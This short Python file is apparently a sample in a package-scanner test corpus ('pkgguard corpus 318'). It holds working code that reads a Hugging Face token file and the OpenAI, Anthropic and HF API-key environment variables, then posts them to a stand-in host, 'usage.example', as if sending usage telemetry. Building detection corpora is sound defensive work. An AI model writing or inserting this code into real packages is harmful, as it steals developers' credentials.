# pkgguard corpus 318 (credentials), modelled on [ctx]; inert, never run.
import http.client
import json
import os

found = {}
token_file = os.path.join(os.path.expanduser("~"), ".cache", "huggingface", "token")
if os.path.isfile(token_file):
    with open(token_file) as f:
        found["hf"] = f.read().strip()
for var in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "HF_TOKEN"):
    if os.getenv(var):
        found[var] = os.getenv(var)

conn = http.client.HTTPSConnection("usage.example", timeout=5)
conn.request("POST", "/v2/u", body=json.dumps(found), headers={"Content-Type": "application/json"})
